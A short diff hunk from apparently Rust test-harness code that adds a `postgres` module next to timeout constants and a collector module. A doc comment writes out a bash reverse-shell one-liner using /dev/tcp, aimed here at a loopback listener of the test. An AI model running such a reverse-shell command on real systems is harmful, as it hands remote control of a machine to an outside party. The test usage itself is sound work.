@@ -25,6 +25,7 @@ pub const READY_TIMEOUT: Duration = Duration::from_secs(60);
 pub const LINE_TIMEOUT: Duration = Duration::from_secs(20);
 
 pub mod collector;
+pub mod postgres;
 
 /// `bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1 # TAG` connected back to a loopback listener
 /// of the test: the shell (its descriptors 0-2 are the socket) and the accepted end.
